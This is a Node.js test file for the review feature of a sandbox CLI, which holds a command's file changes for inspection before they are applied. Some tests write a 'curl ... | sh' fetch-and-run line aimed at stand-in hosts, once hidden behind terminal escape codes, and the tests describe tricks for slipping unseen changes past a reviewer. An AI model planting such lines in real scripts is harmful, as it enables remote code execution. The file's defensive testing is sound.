'use strict'
// Issue 32 on the command line: `sandspawn --review` runs the command with the workspace's writes
// kept in a change set, prints it (host risks marked) and asks on a terminal whether to apply,
// discard or diff it (without a terminal, or with --json, it stays pending); `sandspawn review
// list|show|diff|apply|discard` acts on pending sets later. Real bwrap, the real CLI.

const { test } = require('node:test')
const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { spawnSync } = require('node:child_process')

const CLI = path.join(__dirname, '..', 'bin', 'sandspawn.js')
const DRIVER = path.join(__dirname, 'fixtures', 'review-driver.py')
const CONTINUE = path.join(__dirname, 'fixtures', 'continue-change-set.js')
// Generous hang bound for one CLI run (never a speed assertion).
const HANG_MS = 60_000
// Not /tmp: the CLI's runs see a private one with some policies; the store lies outside every root.
const BASE = fs.realpathSync(fs.mkdtempSync('/var/tmp/sandspawn-cli-review-'))
const env = { ...process.env, SANDSPAWN_CHANGE_SET_DIR: path.join(BASE, 'store') }
process.on('exit', () => fs.rmSync(BASE, { recursive: true, force: true }))

const cli = (args, cwd) => spawnSync(process.execPath, [CLI, ...args], { cwd, env, encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL', stdio: ['ignore', 'pipe', 'pipe'] })
const ctx = (r) => `status ${r.status} signal ${r.signal}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`
const drive = (answers, args, cwd, extraEnv = {}) => {
  const r = spawnSync('python3', [DRIVER, answers, process.execPath, CLI, ...args], { cwd, env: { ...env, ...extraEnv }, encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL' })
  assert.equal(r.status, 0, ctx(r))
  return JSON.parse(r.stdout)
}

/** A workspace with `a.txt` (old) and `gone.txt`. */
function workspace(t) {
  const ws = fs.mkdtempSync(path.join(BASE, 'ws-'))
  t.after(() => fs.rmSync(ws, { recursive: true, force: true }))
  fs.writeFileSync(path.join(ws, 'a.txt'), 'old\n')
  fs.writeFileSync(path.join(ws, 'gone.txt'), 'g\n')
  return ws
}
const TASK = 'echo new > a.txt && echo b > b.txt && rm gone.txt && mkdir .vscode && echo {} > .vscode/tasks.json'
/** The pending sets of workspace `ws`, by `review list --json` (the store is this file's). */
const pendingIn = (ws) => {
  const r = cli(['review', 'list', '--json'], ws)
  assert.equal(r.status, 0, ctx(r))
  return JSON.parse(r.stdout).filter((s) => s.cwd === ws)
}
const hostView = (ws) => fs.readdirSync(ws).sort().map((n) => (fs.statSync(path.join(ws, n)).isFile() ? `${n}:${fs.readFileSync(path.join(ws, n), 'utf8')}` : `${n}/`))

test('--review --json prints the change set and keeps it pending; review list|show|diff|apply|discard act on it', (t) => {
  const ws = workspace(t)
  const run = cli(['--review', '--json', '--', 'sh', '-c', TASK], ws)
  assert.equal(run.status, 0, ctx(run))
  const cs = JSON.parse(run.stdout).changeSet
  assert.match(cs.id, /^cs-[0-9a-f]{16}$/)
  assert.deepEqual(cs.counts, { added: 3, modified: 1, deleted: 1 })
  assert.deepEqual(cs.hostRisks.map((h) => [h.kind, h.path]), [['protected-name-created', path.join(ws, '.vscode')]])
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'], 'nothing landed')

  // Flags may follow the action's words, as the help writes them.
  assert.deepEqual(pendingIn(ws).map((s) => [s.id, s.counts]), [[cs.id, cs.counts]])
  const listed = cli(['review', 'list'], ws)
  assert.match(listed.stdout, new RegExp(`^${cs.id}  \\S+  ${ws}  3 added, 1 modified, 1 deleted$`, 'm'))

  const show = cli(['review', 'show', cs.id], ws)
  assert.equal(show.status, 0, ctx(show))
  assert.equal(show.stdout, [
    `sandspawn: change set ${cs.id}: 3 added, 1 modified, 1 deleted`,
    '  A! .vscode/', '  A! .vscode/tasks.json', '  M  a.txt', '  A  b.txt', '  D  gone.txt',
    `  ! protected-name-created: .vscode: ${cs.hostRisks[0].detail} (held back)`, `  revision ${cs.revision}`, '',
  ].join('\n'))
  const diff = cli(['review', 'diff', cs.id, 'a.txt'], ws)
  assert.equal(diff.status, 0, ctx(diff))
  assert.match(diff.stdout, /^--- a\S*\/a\.txt\n\+\+\+ b\S*\/a\.txt\n@@ -1 \+1 @@\n-old\n\+new\n$/)

  // One path (relative to the cwd), then the rest: the risky entry is held back (exit 1) until named with --force.
  const one = cli(['review', 'apply', cs.id, 'b.txt', '--json', '--revision', cs.revision], ws)
  assert.equal(one.status, 0, ctx(one))
  const oneOut = JSON.parse(one.stdout)
  assert.match(oneOut.revision, /^\d+-[0-9a-f]{32}$/, 'the revision of what is left')
  assert.deepEqual(oneOut, { applied: [path.join(ws, 'b.txt')], conflicts: [], heldBack: [], revision: oneOut.revision })
  const rest = cli(['review', 'apply', cs.id], ws)
  assert.equal(rest.status, 1, ctx(rest))
  assert.match(rest.stderr, /applied 2 change\(s\)[^]*held back: .*\.vscode: protected-name-created[^]*still pending/)
  assert.deepEqual(hostView(ws), ['a.txt:new\n', 'b.txt:b\n'])
  const forced = cli(['review', 'apply', cs.id, '.vscode', '--force'], ws)
  assert.equal(forced.status, 0, ctx(forced))
  assert.deepEqual(hostView(ws), ['.vscode/', 'a.txt:new\n', 'b.txt:b\n'])
  assert.deepEqual(pendingIn(ws), [], 'a set with nothing left is gone')

  const gone = cli(['review', 'discard', cs.id, '--json'], ws)
  assert.equal(gone.status, 2, ctx(gone))
  assert.equal(JSON.parse(gone.stdout).error.code, 'ERR_SANDBOX_INVALID_OPTIONS')
})

test('--review without a terminal prints the set and keeps it pending; review discard drops it', (t) => {
  const ws = workspace(t)
  const run = cli(['--review', 'sh', '-c', TASK], ws)
  assert.equal(run.status, 0, ctx(run))
  const id = /change set (cs-[0-9a-f]{16}): 3 added, 1 modified, 1 deleted/.exec(run.stderr)?.[1]
  assert.ok(id, ctx(run))
  assert.match(run.stderr, new RegExp(`pending: sandspawn review apply ${id} --revision \\d+-[0-9a-f]{32} \\| sandspawn review diff ${id} \\| sandspawn review discard ${id}`))
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'])
  const discard = cli(['review', 'discard', id], ws)
  assert.equal(discard.status, 0, ctx(discard))
  assert.deepEqual(pendingIn(ws), [])
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'])
})

test('--review on a terminal: v shows the diff and asks again, a applies (risks held back), d discards', { skip: !hasPython() && 'no python3 for the pty driver' }, (t) => {
  const ws = workspace(t)
  const applied = drive('v,a', ['--review', '--', 'sh', '-c', TASK], ws)
  assert.equal(applied.code, 0, applied.output)
  assert.equal(applied.asked, 2, applied.output)
  assert.match(applied.output, /-old\n\+new\n/)
  assert.match(applied.output, /applied 3 change\(s\) of (cs-[0-9a-f]{16})\n  held back: .*\.vscode: protected-name-created/)
  assert.deepEqual(hostView(ws), ['a.txt:new\n', 'b.txt:b\n'])
  const id = /change set (cs-[0-9a-f]{16})/.exec(applied.output)[1]
  assert.deepEqual(pendingIn(ws).map((s) => s.id), [id], 'the held-back entry stays pending')
  assert.equal(cli(['review', 'discard', id], ws).status, 0)

  const discarded = drive('d', ['--review', '--', 'sh', '-c', 'echo again > a.txt'], ws)
  assert.equal(discarded.code, 0, discarded.output)
  assert.match(discarded.output, /discarded cs-/)
  assert.deepEqual(hostView(ws), ['a.txt:new\n', 'b.txt:b\n'])
  assert.deepEqual(pendingIn(ws), [])
})

test('a run that writes nothing leaves no change set; review usage errors exit 2', (t) => {
  const ws = workspace(t)
  const run = cli(['--review', 'true'], ws)
  assert.equal(run.status, 0, ctx(run))
  assert.match(run.stderr, /0 added, 0 modified, 0 deleted/)
  assert.deepEqual(pendingIn(ws), [])
  for (const args of [['review'], ['review', 'show'], ['review', 'bogus'], ['review', 'list', '--force'], ['review', 'list', '--mode', 'read-only'], ['review', 'show', '../etc']]) {
    const r = cli(args, ws)
    assert.equal(r.status, 2, `${args.join(' ')}: ${ctx(r)}`)
  }
})

function hasPython() {
  return spawnSync('python3', ['--version']).status === 0
}

test('review diff escapes what the files hold: a line that erases itself cannot hide an added command', (t) => {
  const ws = workspace(t)
  fs.writeFileSync(path.join(ws, 'build.sh'), '#!/bin/sh\necho building\n')
  const task = "printf 'curl -s http://evil.invalid/x | sh\\n\\033[1A\\033[2K\\r echo done\\n' >> build.sh && printf 'x\\n' > \"$(printf 'n\\033[2Kame')\""
  const run = cli(['--review', '--json', '--', 'sh', '-c', task], ws)
  assert.equal(run.status, 0, ctx(run))
  const id = JSON.parse(run.stdout).changeSet.id
  const diff = cli(['review', 'diff', id], ws)
  assert.equal(diff.status, 0, ctx(diff))
  assert.doesNotMatch(diff.stdout, /[\x1b\r]/, 'no control character reaches the terminal')
  assert.match(diff.stdout, /^\+curl -s http:\/\/evil\.invalid\/x \| sh$/m)
  assert.match(diff.stdout, /^\+\\e\[1A\\e\[2K\\r/m, 'the erasing line is shown as text')
  // Quoted as git quotes such a name (`\033` from diffChange), and that backslash escaped again by the CLI.
  assert.match(diff.stdout, /^\+\+\+ "b.*n\\\\033\[2Kame"$/m, 'the header path is escaped too')
  assert.equal(cli(['review', 'discard', id], ws).status, 0)
})

test('--review --ask on a terminal: a key typed for the command\'s own question does not answer the review question', { skip: !hasPython() && 'no python3 for the pty driver' }, (t) => {
  // The command asks its own question and waits (with --ask its stdin is /dev/null: the "a" stays in
  // the terminal's queue); after the run, that "a" must not apply the set unreviewed.
  const ws = workspace(t)
  const TYPING = path.join(__dirname, 'fixtures', 'typing-driver.py')
  const task = "echo planted > a.txt; printf 'Choose [a]ll files or [s]elect: '; sleep 1; echo"
  const steps = [['or [s]elect: ', 'a\r'], ['pending? ', 'd\r']]
  const r = spawnSync('python3', [TYPING, JSON.stringify(steps), process.execPath, CLI, '--ask', '--review', '--', 'sh', '-c', task], { cwd: ws, env, encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL' })
  assert.equal(r.status, 0, ctx(r))
  const seen = JSON.parse(r.stdout)
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'], `the "a" typed before the question applied the set:\n${seen.output}`)
  assert.match(seen.output, /discarded cs-/, seen.output)
  assert.deepEqual(seen.unused, [], seen.output)
  assert.deepEqual(pendingIn(ws), [])
})

test('--review on a terminal that hangs up at the question: the set stays pending and the CLI ends', { skip: !hasPython() && 'no python3 for the pty driver' }, (t) => {
  const ws = workspace(t)
  const TYPING = path.join(__dirname, 'fixtures', 'typing-driver.py')
  const r = spawnSync('python3', [TYPING, JSON.stringify([['pending? ', null]]), process.execPath, CLI, '--review', '--', 'sh', '-c', 'echo new > a.txt'], { cwd: ws, env, encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL' })
  assert.equal(r.status, 0, ctx(r))
  const seen = JSON.parse(r.stdout)
  assert.equal(seen.killed, false, `the CLI went on after the hang-up:\n${seen.output}`)
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'])
  const pending = pendingIn(ws)
  assert.equal(pending.length, 1, seen.output)
  assert.equal(cli(['review', 'discard', pending[0].id], ws).status, 0)
})

// Found by an attacker's review (land27): `sandspawn review diff ID` diffed the changes
// `showChangeSet` lists by default, the first 10,000, and exited 0 saying nothing of the rest; a
// run that wrote 10,000 files in `a/` and then `zz-evil.sh` had its script never shown, and `review
// apply ID` landed it. The library here is a stand-in (the real one took 2 minutes for such a set
// on the shared machine): a set of 10,002 changes, listed as `showChangeSet` lists them.
test('review diff shows every change of a set longer than one listing', () => {
  const lib = path.join(__dirname, '..', 'lib', 'cli')
  const script = `
    const paths = Array.from({ length: 10002 }, (_, i) => '/ws/f' + String(i).padStart(5, '0'))
    const counts = { added: paths.length, modified: 0, deleted: 0 }
    const max = (o) => o.maxChanges ?? 10000
    const fake = {
      showChangeSet: async (id, o = {}) => ({ id, cwd: '/ws', counts, truncated: paths.length > max(o), hostRisks: [], changes: paths.slice(0, max(o)).map((p) => ({ path: p, kind: 'added', type: 'file' })) }),
      diffChange: async (id, p) => '+++ b' + p + '\\n',
    }
    require(${JSON.stringify(path.join(lib, 'library.js'))}).loadSandspawn = () => fake
    require(${JSON.stringify(path.join(lib, 'review.js'))}).review(['diff', 'cs-0123456789abcdef'], {}).catch((e) => { console.error(e); process.exit(3) })
  `
  const r = spawnSync(process.execPath, ['-e', script], { encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL', maxBuffer: 64 << 20 })
  assert.equal(r.status, 0, ctx(r))
  assert.match(r.stdout, /^\+\+\+ b\/ws\/f10001$/m, `the last change is diffed: ${r.stdout.slice(-200)}${r.stderr}`)
  assert.equal(r.stdout.split('\n').filter((l) => l.startsWith('+++ ')).length, 10002)
})

test('review apply --revision lands only the revision shown: a run that continued the set since makes it refuse, landing nothing', (t) => {
  const ws = workspace(t)
  const run = cli(['--review', '--json', '--', 'sh', '-c', 'echo new > a.txt'], ws)
  assert.equal(run.status, 0, ctx(run))
  const cs = JSON.parse(run.stdout).changeSet
  const show = cli(['review', 'show', cs.id], ws)
  const shown = /^  revision (\S+)$/m.exec(show.stdout)?.[1]
  assert.equal(shown, cs.revision, ctx(show))
  const diff = cli(['review', 'diff', cs.id], ws)
  assert.match(diff.stderr, new RegExp(`diffed revision ${shown} of ${cs.id}: sandspawn review apply ${cs.id} --revision ${shown}`))
  // Another agent's step continues the set (the library, as an agent would).
  const cont = spawnSync(process.execPath, [CONTINUE, cs.id, 'echo evil > evil.sh'], { cwd: ws, env, encoding: 'utf8', timeout: HANG_MS })
  assert.equal(cont.status, 0, ctx(cont))
  const stale = cli(['review', 'apply', cs.id, '--revision', shown], ws)
  assert.equal(stale.status, 1, ctx(stale))
  assert.match(stale.stderr, /changed since revision[^]*[Ss]how it again/)
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'], 'nothing landed')
  const json = cli(['review', 'apply', cs.id, '--revision', shown, '--json'], ws)
  assert.equal(JSON.parse(json.stdout).error.code, 'ERR_SANDBOX_CHANGE_SET_CHANGED')
  assert.equal(cli(['review', 'show', cs.id, '--revision', shown], ws).status, 2, '--revision only with apply')
  const now = /^  revision (\S+)$/m.exec(cli(['review', 'show', cs.id], ws).stdout)?.[1]
  const applied = cli(['review', 'apply', cs.id, '--revision', now], ws)
  assert.equal(applied.status, 0, ctx(applied))
  assert.deepEqual(hostView(ws), ['a.txt:new\n', 'evil.sh:evil\n', 'gone.txt:g\n'])
})

test('--review on a terminal: a run that continues the set while the question waits makes [a]pply refuse; the set is shown again and asked about', { skip: !hasPython() && 'no python3 for the pty driver' }, (t) => {
  const ws = workspace(t)
  const before = `'${process.execPath}' '${CONTINUE}' "$1" 'echo evil > evil.sh'`
  const r = drive('a,k', ['--review', '--', 'sh', '-c', 'echo new > a.txt'], ws, { REVIEW_DRIVER_BEFORE_FIRST: before })
  assert.equal(r.asked, 2, r.output)
  assert.match(r.output, /changed since revision[^]*[Ss]how it again/)
  assert.match(r.output, /change set cs-[0-9a-f]{16}: 1 added, 1 modified, 0 deleted[^]*A  evil\.sh/, 'shown again, evil.sh with it')
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'], 'nothing landed')
  const [pending] = pendingIn(ws)
  assert.deepEqual(pending.counts, { added: 1, modified: 1, deleted: 0 })
  assert.equal(cli(['review', 'discard', pending.id], ws).status, 0)
})

// Found by an attacker's review (mode29): kept pending at the question ([k]eep, or no answer: a
// hang-up, Ctrl-C), the CLI suggested `sandspawn review apply ID` with no revision. The user had
// seen the set (its listing, maybe its diffs); another agent's step that continued it meanwhile
// (evil.sh) landed with that apply, unseen. Every other line that suggests an apply names the
// revision shown.
test('--review on a terminal, kept pending: the apply it suggests lands only the revision shown, not what a run added since', { skip: !hasPython() && 'no python3 for the pty driver' }, (t) => {
  const ws = workspace(t)
  const r = drive('k', ['--review', '--', 'sh', '-c', 'echo new > a.txt'], ws)
  const suggested = /kept pending: sandspawn (review apply [^\n|]*?)\s*(?:\||\n|$)/.exec(r.output)
  assert.ok(suggested, r.output)
  const id = /change set (cs-[0-9a-f]{16})/.exec(r.output)[1]
  const shown = /^  revision (\S+)$/m.exec(r.output)?.[1]
  assert.ok(shown, r.output)
  const cont = spawnSync(process.execPath, [CONTINUE, id, 'echo evil > evil.sh'], { cwd: ws, env, encoding: 'utf8', timeout: HANG_MS })
  assert.equal(cont.status, 0, ctx(cont))
  // The command as printed, run as the user would paste it.
  const applied = cli(suggested[1].trim().split(/\s+/), ws)
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'], `the suggested '${suggested[1]}' landed what was never shown:\n${ctx(applied)}`)
  assert.equal(applied.status, 1, ctx(applied))
  assert.match(applied.stderr, /changed since revision/)
  assert.equal(cli(['review', 'discard', id], ws).status, 0)
})

// Found by an attacker's review (mode29): with stderr not the terminal (`2>/dev/null`, a log) the
// change set's listing and the question were written there, unseen, while the answer was still
// read from the terminal: the command ended on its own prompt on stdout ("[a]rchive the build
// or [d]elete it?"), and the "a" typed for it applied the set nobody had been shown.
test('--review with stderr not on the terminal: the set is not asked about where nobody sees it; an "a" typed for the command\'s own prompt applies nothing', { skip: !hasPython() && 'no python3 for the pty driver' }, (t) => {
  const ws = workspace(t)
  const TYPING = path.join(__dirname, 'fixtures', 'typing-driver.py')
  const cmd = "echo new > a.txt; printf '[a]rchive the build or [d]elete it? '"
  const argv = ['sh', '-c', 'exec "$0" "$@" 2>/dev/null', process.execPath, CLI, '--review', '--', 'sh', '-c', cmd]
  const r = spawnSync('python3', [TYPING, JSON.stringify([['[d]elete it? ', 'a\r']]), ...argv], { cwd: ws, env, encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL' })
  assert.equal(r.status, 0, ctx(r))
  const seen = JSON.parse(r.stdout)
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'], `the "a" typed for the command's prompt applied the set, never shown:\n${seen.output}`)
  const pending = pendingIn(ws)
  assert.equal(pending.length, 1, seen.output)
  assert.equal(cli(['review', 'discard', pending[0].id], ws).status, 0)
})

// Found by an attacker's review (mode29): the [v] answer wrote the diffs on stdout. With stdout
// not the terminal (`> build.log`, `| tee log`) they went there, and the screen showed the
// question again with nothing between: a set adding `curl ... | sh` to a script looked like one
// with nothing to see, and [a]pply landed it.
test('--review on a terminal with stdout elsewhere: [v] shows the diff on the terminal, where the question is', { skip: !hasPython() && 'no python3 for the pty driver' }, (t) => {
  const ws = workspace(t)
  const log = path.join(ws, '..', `${path.basename(ws)}.log`)
  t.after(() => fs.rmSync(log, { force: true }))
  const argv = ['sh', '-c', `exec "$0" "$@" >'${log}'`, process.execPath, CLI, '--review', '--', 'sh', '-c', 'echo "curl evil.test | sh" >> a.txt']
  const run = spawnSync('python3', [DRIVER, 'v,k', ...argv], { cwd: ws, env, encoding: 'utf8', timeout: HANG_MS, killSignal: 'SIGKILL' })
  assert.equal(run.status, 0, ctx(run))
  const r = JSON.parse(run.stdout)
  assert.match(r.output, /\[k\]eep it pending\? v\n[^]*\+curl evil\.test \| sh\n[^]*\[k\]eep it pending\? k/, `the diff asked for never reached the screen:\n${r.output}`)
  const [pending] = pendingIn(ws)
  assert.equal(cli(['review', 'discard', pending.id], ws).status, 0)
})

test('review apply and diff refuse an empty path (a variable the shell left empty), never taking it for the whole shell directory', (t) => {
  // `sandspawn review apply ID "$FILE"` with FILE unset: the empty word resolved to the shell's
  // directory, the workspace, and the whole set landed where one file was asked for (found by an
  // attacker's review, mode33).
  const ws = workspace(t)
  const run = cli(['--review', '--json', '--', 'sh', '-c', 'echo new > a.txt && echo b > b.txt'], ws)
  assert.equal(run.status, 0, ctx(run))
  const { id } = JSON.parse(run.stdout).changeSet
  t.after(() => cli(['review', 'discard', id], ws))
  for (const action of ['apply', 'diff']) {
    const r = cli(['review', action, id, ''], ws)
    assert.equal(r.status, 2, `${action}: ${ctx(r)}`)
    assert.match(r.stderr, /empty path/, `${action}: ${ctx(r)}`)
  }
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'], 'nothing landed')
})

test('review apply and diff resolve a path\'s .. as the kernel does (up from a link\'s target), never as text; a .. the host cannot resolve is refused', (t) => {
  // `review apply ID link/../notes.txt` with link -> sub/deeper names sub/notes.txt to the kernel
  // (and to `cat`, `ls`, the user's editor), but path.resolve dropped `link/..` as text: the diff
  // showed, and the apply landed, the workspace's top notes.txt, never named (found by an
  // attacker's review, mode34).
  const ws = workspace(t)
  fs.mkdirSync(path.join(ws, 'sub', 'deeper'), { recursive: true })
  fs.symlinkSync('sub/deeper', path.join(ws, 'link'))
  const run = cli(['--review', '--json', '--', 'sh', '-c', 'echo top > notes.txt && echo sub > sub/notes.txt && ln -s sub/deeper newlink'], ws)
  assert.equal(run.status, 0, ctx(run))
  const { id } = JSON.parse(run.stdout).changeSet
  t.after(() => cli(['review', 'discard', id], ws))

  // A `..` below what the host does not have (here the set's own link) cannot be resolved until
  // the set lands: refused, nothing diffed or landed.
  for (const action of ['diff', 'apply']) {
    const r = cli(['review', action, id, 'newlink/../notes.txt'], ws)
    assert.equal(r.status, 2, `${action} through the set's own link: ${ctx(r)}`)
    assert.match(r.stderr, /newlink/, `${action}: ${ctx(r)}`)
  }
  assert.ok(!fs.existsSync(path.join(ws, 'notes.txt')) && !fs.existsSync(path.join(ws, 'sub', 'notes.txt')), 'nothing landed')

  for (const named of ['link/../notes.txt', `${ws}/link/../notes.txt`, './link/./../notes.txt']) {
    const diff = cli(['review', 'diff', id, named], ws)
    assert.equal(diff.status, 0, `${named}: ${ctx(diff)}`)
    assert.match(diff.stdout, /\+sub\n/, `${named}: the kernel's sub/notes.txt is diffed: ${ctx(diff)}`)
    assert.doesNotMatch(diff.stdout, /\+top\n/, `${named}: the top notes.txt, never named, is diffed: ${ctx(diff)}`)
  }
  const apply = cli(['review', 'apply', id, 'link/../notes.txt'], ws)
  assert.equal(apply.status, 0, ctx(apply))
  assert.equal(fs.readFileSync(path.join(ws, 'sub', 'notes.txt'), 'utf8'), 'sub\n', 'the file named landed')
  assert.ok(!fs.existsSync(path.join(ws, 'notes.txt')), 'the top notes.txt, never named, landed')
})

test('review errors name the CLI\'s words (PATH, --revision, review show), never API fields or functions', (t) => {
  // API.md: the CLI's errors name CLI flags, not API fields. `review apply ID /etc/x` said
  // `options.paths[0]: ...`, `review diff ID zz` `options.path: ...`, `--revision ''`
  // `options.revision: ...`, and a stale --revision told the user to call showChangeSet (found by
  // an attacker's review, mode34).
  const ws = workspace(t)
  const run = cli(['--review', '--json', '--', 'sh', '-c', 'echo new > a.txt'], ws)
  assert.equal(run.status, 0, ctx(run))
  const { id } = JSON.parse(run.stdout).changeSet
  t.after(() => cli(['review', 'discard', id], ws))
  for (const args of [['apply', id, '/etc/x'], ['apply', id, 'zz'], ['diff', id, 'zz'], ['apply', id, '--revision', ''], ['apply', id, '--revision', 'nope']]) {
    const r = cli(['review', ...args], ws)
    assert.notEqual(r.status, 0, `${args.join(' ')}: ${ctx(r)}`)
    assert.doesNotMatch(r.stderr, /options\.|showChangeSet|applyChangeSet/, `${args.join(' ')}: ${ctx(r)}`)
  }
  assert.deepEqual(hostView(ws), ['a.txt:old\n', 'gone.txt:g\n'], 'nothing landed')
})

test('review list, show and discard refuse words they do not take: discard A B discarded A alone, B left without a word', (t) => {
  // `sandspawn review discard ID1 ID2` discarded ID1 and ignored ID2 (status 0): the user believes
  // both gone (found by an attacker's review, mode34). Likewise `review show ID extra`, `review
  // list extra`.
  const ws = workspace(t)
  const ids = ['echo 1 > a.txt', 'echo 2 > b.txt'].map((task) => {
    const run = cli(['--review', '--json', '--', 'sh', '-c', task], ws)
    assert.equal(run.status, 0, ctx(run))
    return JSON.parse(run.stdout).changeSet.id
  })
  t.after(() => ids.forEach((id) => cli(['review', 'discard', id], ws)))
  for (const args of [['discard', ...ids], ['show', ids[0], 'extra'], ['list', 'extra']]) {
    const r = cli(['review', ...args], ws)
    assert.equal(r.status, 2, `${args.join(' ')}: ${ctx(r)}`)
  }
  assert.deepEqual(pendingIn(ws).map((s) => s.id).sort(), [...ids].sort(), 'both sets are still pending: nothing was half done')
})
